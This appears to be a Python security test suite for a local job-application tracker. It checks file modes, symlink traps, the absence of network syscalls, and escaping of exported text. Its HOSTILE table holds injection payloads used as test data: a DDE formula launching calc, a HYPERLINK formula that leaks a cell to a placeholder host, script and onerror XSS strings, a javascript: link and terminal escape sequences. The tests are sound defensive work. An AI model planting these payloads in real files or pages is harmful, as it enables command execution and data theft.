"""Nothing leaks: files are their owner's alone and created without following links, no network is spoken to, and what
data holds is shown and never obeyed."""
import csv
import html.parser
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from xml.etree import ElementTree

from tool import CANNOT_WRITE, DONE, NO_INPUT, ROOT, SOME_REJECTED, UNUSABLE

SAMPLE = os.path.join(ROOT, "SampleData")
REPORTS = (["review"], ["check"], ["journal"], ["salary"], ["offers"], ["follow-ups"], ["timing"], ["funnel"], ["practice"],
           ["rates", "--by", "company,source"], ["rates", "--by", "resume"], ["review", "--redact"])
FORMATS = ("text", "csv", "xlsx", "html", "markdown", "json")


def run(soak):
    modes(soak)
    links(soak)
    calls(soak)
    words(soak)


def modes(soak):
    """Whatever the umask."""
    before, place = (lambda: os.umask(0)), soak.path("modes")
    os.mkdir(place)
    ledger = os.path.join(place, "data", "ledger.sqlite")
    soak.run_well("import", "--quiet", SAMPLE, ledger=ledger, before=before)
    soak.run_well("export", "--quiet", os.path.join(place, "backup"), ledger=ledger, before=before)
    soak.run_well("review", SAMPLE, "--as-of", "2026-10-31", "--output", os.path.join(place, "review") + "/", before=before)
    soak.run("import", "--quiet", os.path.join(SAMPLE, "Faulty", "not-a-day.csv"), "--rejects",
             os.path.join(place, "rejects.csv"), ledger=ledger, before=before)
    # While an import is under way, what lies beside the ledger too.
    log = soak.log("much", 3000)
    process = soak.start(["import", "--quiet", log], ledger, preexec_fn=before)
    seen = set()
    while process.poll() is None:
        seen |= look(soak, place)
    seen |= look(soak, place)
    soak.expect(len(seen) > 30 and any(name.endswith("-wal") for name in seen), f"only {len(seen)} files were looked at")
    soak.say(f"modes: {len(seen)} files, each its owner's alone")


def look(soak, place):
    seen = set()
    for folder, folders, names in os.walk(place):
        for name in names + folders:
            path = os.path.join(folder, name)
            try:
                mode = os.stat(path).st_mode & 0o777
            except FileNotFoundError:
                continue
            wanted = 0o700 if os.path.isdir(path) else 0o600
            soak.expect(mode == wanted, f"{path} has the mode {mode:o}")
            seen.add(path)
    return seen


def links(soak):
    """A link in the place of a file that is to be made is not followed; one of somebody else's is never."""
    place = soak.path("links")
    os.mkdir(place)
    victim = soak.write("victim", "precious")

    def unharmed(what):
        soak.expect(open(victim).read() == "precious", f"{what} was followed")

    ledger = os.path.join(place, "ledger.sqlite")
    soak.run_well("import", "--quiet", SAMPLE, ledger=ledger)
    for side in ("-wal", "-shm", "-journal"):
        os.symlink(victim, ledger + side)
        soak.run("import", "--quiet", soak.log("small", 5), ledger=ledger)
        soak.run("funnel", ledger=ledger)
        unharmed(f"a link at the ledger's {side}")
        os.remove(ledger + side) if os.path.lexists(ledger + side) else None
    os.symlink("nowhere", os.path.join(place, "dangling"))
    for words_ in (["import", SAMPLE, "--ledger", os.path.join(place, "dangling")],):
        outcome = soak.run(*words_)
        soak.expect(outcome.status == CANNOT_WRITE, f"a dangling link as the ledger: {outcome}")
    soak.run_well("funnel", SAMPLE, "--output", os.path.join(place, "dangling"))
    soak.expect(not os.path.lexists(os.path.join(place, "nowhere")), "a dangling link was followed")
    tried = 5
    if os.geteuid() == 0:
        # Root is nobody special: the links of other people are not followed.
        link = os.path.join(place, "theirs")
        os.symlink(victim, link)
        os.lchown(link, 65534, 65534)
        for words_ in (["funnel", SAMPLE, "--output", link], ["import", SAMPLE, "--ledger", link], ["funnel", "--ledger", link]):
            outcome = soak.run(*words_)
            soak.expect(outcome.status == CANNOT_WRITE and b"somebody else" in outcome.err, f"another's link: {outcome}")
            unharmed("another's link")
            tried += 1
    else:
        soak.say("skipped: links of other people (that needs root)")
    soak.say(f"links: {tried} traps")


def calls(soak):
    """No socket, and every file that is made is made for its owner and not through a link."""
    if not shutil.which("strace"):
        soak.say("skipped: there is no strace to watch with")
        return
    place = soak.path("calls")
    os.mkdir(place)
    ledger, made, seen = os.path.join(place, "ledger.sqlite"), 0, 0
    for words_ in (["import", SAMPLE], ["import", SAMPLE], ["review"], ["check"], ["export", os.path.join(place, "out")],
                   ["review", "--output", os.path.join(place, "review/")], ["follow-ups", "--format", "ics"],
                   ["imports"], ["undo"], ["review", SAMPLE], ["help"], ["completions", "bash"]):
        trace = soak.path("trace")
        done = subprocess.run(
            ["strace", "-f", "-qq", "-o", trace, "-e", "trace=%network,openat,open,creat,link,symlink,chmod,fchmod",
             soak.program, *words_], env=soak.environment(ledger), stdin=subprocess.DEVNULL, capture_output=True)
        if done.returncode not in (DONE, SOME_REJECTED):
            if b"ptrace" in done.stderr.lower():
                soak.say("skipped: strace may not watch here")
                return
            soak.expect(False, f"{words_} under strace: status {done.returncode}: {done.stderr[-300:]!r}")
        for line in open(trace, errors="replace"):
            seen += 1
            soak.expect(not re.search(r"\b(socket|connect|bind|sendto|sendmsg|getsockname)\(", line), f"{words_[0]}: {line.strip()}")
            if "O_CREAT" in line:
                made += 1
                # The library of workbooks opens the temporary file that debrief has made, and files without a name.
                ours = "O_EXCL" in line or "O_NOFOLLOW" in line or ".debrief-" in line
                soak.expect(ours, f"{words_[0]} makes a file through a link: {line.strip()}")
                soak.expect("0600" in line or ".debrief-" in line, f"{words_[0]} makes a file for others: {line.strip()}")
    soak.say(f"system calls: {seen} watched, {made} of them make a file; no network")


# What data may hold, with a name that shows where it went.
HOSTILE = {
    "escape": "\x1b]0;title\x07\x1b[2J\x1b[31mred", "c1": "\u009b31mred", "backspace": "abc\x08\x08\x08xyz", "delete": "a\x7fb",
    "bell": "a\x07b", "override": "\u202egpj.exe", "isolate": "\u2066abc\u2069", "mark": "\u200fabc", "separator": "a\u2028b",
    "formula": "=cmd|' /C calc'!A0", "plus": "+1+2", "minus": "-1+cmd", "at": "@SUM(A1)", "fullwidth": "\uff1d1+1",
    "link": "=HYPERLINK(\"http://example.invalid/?\"&A1)", "script": "<script>alert(1)</script>", "image": "<img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)", "markdown": "[click](javascript:alert(1))", "picture": "![x](http://example.invalid/x.png)",
    "pipe": "a|b|c", "tag": "</title></style></svg><b>", "entity": "&lt;b&gt;&#x1b;", "tick": "`code` **bold**",
}
# What a terminal or a page may obey: all controls but line ends and tabs, and what steers the direction of writing.
OBEYED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u061c\u2028-\u202e\u2066-\u2069]")


def hostile_log(soak):
    """Every kind of word in every column that takes words, once with each trap."""
    kinds = {
        "applications": "application_id,company,role,level,location,work_mode,source,applied_on,resume,url,notes,outcome,closed_on",
        "interviews": "interview_id,application_id,stage,held_on,medium,interviewer,interviewer_role,result,preparation,next_step_by,notes",
        "questions": "question_id,interview_id,question,question_type,rating,notes,own_column",
        "journal": "entry_id,interview_id,written_on,company,text,mood,clarity",
        "salary": "research_id,company,role,level,location,source,low,high,currency,pay_period,as_of",
        "offers": "offer_id,application_id,role,level,location,offered_on,base,currency,pay_period,deadline,decision,notes",
    }
    fixed = {"application_id": "a{n}", "interview_id": "i{n}", "question_id": "q{n}", "entry_id": "j{n}", "research_id": "r{n}",
             "offer_id": "o{n}", "applied_on": "2026-09-0{d}", "held_on": "2026-09-1{d}", "written_on": "2026-09-1{d}",
             "as_of": "2026-08-01", "offered_on": "2026-09-2{d}", "deadline": "2026-11-10", "next_step_by": "2026-11-05",
             "stage": "technical", "result": "advanced", "preparation": "deep", "question_type": "coding", "rating": "4",
             "clarity": "4", "low": "90000", "high": "110000", "base": "100000", "currency": "EUR", "pay_period": "year",
             "decision": "pending", "outcome": "", "closed_on": ""}
    folder = soak.path("hostile")
    os.makedirs(folder, exist_ok=True)
    for kind, columns in kinds.items():
        with open(os.path.join(folder, f"{kind}.csv"), "w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file)
            names = columns.split(",")
            writer.writerow(names)
            number = 0
            for trap in HOSTILE.values():
                for _ in range(2):
                    number += 1
                    writer.writerow([fixed[name].format(n=number, d=number % 9 + 1) if name in fixed else trap for name in names])
    return folder


class Page(html.parser.HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self):
        super().__init__()
        self.bad = []

    def handle_starttag(self, tag, attributes):
        if tag in ("script", "img", "iframe", "object", "embed", "link", "base", "form"):
            self.bad.append(tag)
        for name, value in attributes:
            if name.startswith("on") or (name in ("href", "src", "action") and value and not value.startswith("#")):
                self.bad.append(f"{tag} {name}={value}")


def words(soak):
    log, tried = hostile_log(soak), 0
    ledger = soak.path("hostile.sqlite")
    outcome = soak.run("import", log, ledger=ledger)
    soak.expect(outcome.status in (DONE, SOME_REJECTED), outcome)
    tame(soak, "what import says", outcome.out + outcome.err)
    for words_ in REPORTS:
        for form in FORMATS:
            place = soak.path("tamed", f"{'-'.join(words_)}-{form}/".replace(",", "-"))
            shutil.rmtree(place, ignore_errors=True)
            outcome = soak.run(*words_, "--as-of", "2026-10-31", "--format", form, "--output", place, ledger=ledger)
            soak.expect(outcome.status in (DONE, SOME_REJECTED), outcome)
            tame(soak, f"what {words_[0]} says", outcome.err)
            for name in sorted(os.listdir(place)) if os.path.isdir(place) else []:
                with open(os.path.join(place, name), "rb") as file:
                    data = file.read()
                what = f"{' '.join(words_)} as {name}"
                tried += 1
                if form == "xlsx":
                    workbook(soak, what, data)
                    continue
                tame(soak, what, data)
                {"csv": table, "html": page, "markdown": markdown, "json": document}.get(form, lambda *_: None)(soak, what, data)
    outcome = soak.run("follow-ups", "--format", "ics", "--as-of", "2026-10-31", ledger=ledger)
    tame(soak, "the calendar", outcome.out)
    trapped = soak.path("na\x1b[31m\u202eme.csv")
    shutil.copyfile(os.path.join(SAMPLE, "Faulty", "not-a-day.csv"), trapped)
    for words_ in (["check", trapped], ["import", trapped], ["import", "--explain", trapped], ["review", trapped + "x"],
                   ["funnel", "--ledger", trapped], ["rates", "--by", "\x1b[2J"], ["funnel", "--where", "company=\x1b[2J"], ["imports"]):
        outcome = soak.run(*words_, ledger=ledger)
        tame(soak, f"what {words_[0]} says of names", outcome.out + outcome.err)
        tried += 1
    export(soak, ledger)
    soak.say(f"words: {len(HOSTILE)} traps in every column of words, {tried} outputs")


def tame(soak, what, data):
    text = data.decode("utf-8", errors="surrogateescape")
    found = OBEYED.search(text)
    if found:
        around = text[max(0, found.start() - 30):found.end() + 30]
        soak.expect(False, f"{what} holds {found.group()!r}: {around!r}")


def is_formula(cell):
    return bool(re.match(r"[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell)) and not re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell)


def table(soak, what, data):
    for row in csv.reader(io.StringIO(data.decode())):
        for cell in row:
            soak.expect(not is_formula(cell), f"{what} has a cell that runs: {cell!r}")


def page(soak, what, data):
    parser = Page()
    parser.feed(data.decode())
    soak.expect(not parser.bad, f"{what} holds {parser.bad[:5]}")


def markdown(soak, what, data):
    text = data.decode()
    for trap in ("<script", "<img", "</title", r"(?<!\\)\]\(\s*(javascript|http)", r"(?<!\\)\|b\|c"):
        soak.expect(not re.search(trap, text), f"{what} holds {trap}")


def document(soak, what, data):
    json.loads(data)


def workbook(soak, what, data):
    """No cell is a formula, no part refers to the world outside, and no word holds what a program would obey."""
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            bytes_ = parts.read(name)
            if name.startswith("xl/worksheets/sheet"):
                soak.expect(b"<f>" not in bytes_ and b"<f " not in bytes_, f"{what}: {name} has a formula")
            if name.endswith(".rels"):
                soak.expect(b'TargetMode="External"' not in bytes_, f"{what}: {name} refers to the outside")
            if name.endswith((".xml", ".rels")):
                text = "".join(ElementTree.fromstring(bytes_).itertext())
                tame(soak, f"{what}: {name}", text.encode("utf-8", errors="surrogatepass"))


def export(soak, ledger):
    """The copy that is to be imported again keeps words as they are, but for what a spreadsheet would run; and nothing
    is lost by that."""
    first, second = soak.path("first"), soak.path("second")
    again = soak.path("again.sqlite")
    soak.run_well("export", "--quiet", first, ledger=ledger)
    for name in os.listdir(first):
        with open(os.path.join(first, name), "rb") as file:
            table(soak, f"export as {name}", file.read())
    soak.run("import", "--quiet", first, ledger=again)
    soak.run_well("export", "--quiet", second, ledger=again)
    for name in os.listdir(first):
        soak.expect(open(os.path.join(first, name), "rb").read() == open(os.path.join(second, name), "rb").read(),
                    f"{name} comes back as it was")
